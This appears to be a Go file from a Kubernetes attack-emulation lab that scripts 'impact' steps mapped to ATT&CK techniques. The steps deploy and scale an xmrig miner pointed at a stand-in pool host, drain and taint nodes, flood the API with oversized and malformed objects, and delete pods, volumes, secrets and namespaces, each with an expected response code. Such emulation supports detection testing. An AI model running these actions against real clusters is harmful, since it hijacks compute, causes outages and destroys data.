package attack

import (
	"fmt"
	"net/http"
	"strings"
)

// impact are the steps that use the cluster up, or break it.
func impact() []Step {
	return []Step{
		{"A81", "T1496", "miner deployed and scaled up", mine},
		{"A82", "T1499", "node cordoned, tainted and drained, deployment scaled to nothing", disrupt},
		{"A83", "T1499", "flood of objects, very large ones, malformed ones", flood},
		{"A80", "T1485", "collections and namespaces deleted", destroy},
	}
}

func mine(l *Lab) []act {
	const miner = "/apis/apps/v1/namespaces/sandbox/deployments/xmrig"
	return []act{
		l.developer.create(`
apiVersion: apps/v1
kind: Deployment
metadata: {name: xmrig, namespace: sandbox}
spec:
  replicas: 3
  selector: {matchLabels: {app: xmrig}}
  template:
    metadata: {labels: {app: xmrig}}
    spec:
      containers:
      - {name: xmrig, image: "docker.io/xmrig/xmrig:latest", command: [xmrig, -o, "pool.elsewhere.example:3333"]}`),
		l.developer.patch(miner+"/scale", mergePatch, `{"spec":{"replicas":20}}`),
		l.developer.delete(miner),
	}
}

func disrupt(l *Lab) []act {
	node := "/api/v1/nodes/" + l.nodes[1]
	evict := func(namespace, name string) request {
		return l.breakglass.post("/api/v1/namespaces/"+namespace+"/pods/"+name+"/eviction", fmt.Sprintf(`
apiVersion: policy/v1
kind: Eviction
metadata: {name: %s, namespace: %s}`, name, namespace))
	}
	return []act{
		l.breakglass.patch(node, strategicPatch, `{"spec":{"unschedulable":true}}`),
		evict("sandbox", "spare-0"),
		evict("ledger", "nothing-there").answers(http.StatusNotFound),
		l.breakglass.patch(node, strategicPatch, `{"spec":{"taints":[{"key":"away","value":"1","effect":"NoSchedule"}]}}`),
		l.breakglass.patch(node, mergePatch, `{"spec":{"taints":null,"unschedulable":null}}`),
		l.breakglass.patch("/apis/apps/v1/namespaces/ledger/deployments/api/scale", mergePatch, `{"spec":{"replicas":0}}`),
		l.breakglass.with(curl).delete("/api/v1/nodes/gone-node").answers(http.StatusNotFound),
	}
}

func flood(l *Lab) []act {
	const maps = "/api/v1/namespaces/sandbox/configmaps"
	c := l.developer.with(curl)
	var acts []act
	for i := range 40 {
		acts = append(acts, c.request(http.MethodPost, maps).answers(http.StatusCreated).
			json(fmt.Sprintf(`{"apiVersion":"v1","kind":"ConfigMap","metadata":{"generateName":"flood-"},"data":{"i":"%d"}}`, i)))
	}
	large := func(name, data string) request {
		return c.request(http.MethodPost, maps).
			json(`{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"` + name + `"},"data":{"x":"` + data + `"}}`)
	}
	return append(acts,
		large("large", strings.Repeat(`é✓\"\\\n`, 90_000)).answers(http.StatusCreated),
		large("too-large", strings.Repeat("y", 2_000_000)).answers(http.StatusUnprocessableEntity),
		large("far-too-large", strings.Repeat("z", 4_000_000)).answers(http.StatusRequestEntityTooLarge),
		large("Bad_Name", "y").answers(http.StatusUnprocessableEntity),
		c.request(http.MethodPost, maps).json("{not json").answers(http.StatusBadRequest),
		c.request(http.MethodPost, maps).raw("application/yaml", "a: [").answers(http.StatusBadRequest),
		c.request(http.MethodPost, maps).raw("text/strange", "x").answers(http.StatusUnsupportedMediaType),
	)
}

func destroy(l *Lab) []act {
	const ledger = "/api/v1/namespaces/ledger"
	return []act{
		l.breakglass.deleteAll("/api/v1/namespaces/sandbox/configmaps?labelSelector=x%3Dy"),
		l.breakglass.delete(ledger + "/pods/store-0"),
		l.breakglass.deleteAll(ledger + "/pods"),
		l.breakglass.delete(ledger + "/persistentvolumeclaims/data"),
		l.breakglass.delete(ledger + "/secrets/database"),
		l.breakglass.deleteAll(ledger + "/secrets?limit=10"),
		l.developer.delete("/api/v1/namespaces/ledger").refused(),
		l.breakglass.delete("/api/v1/namespaces/safe"),
	}
}
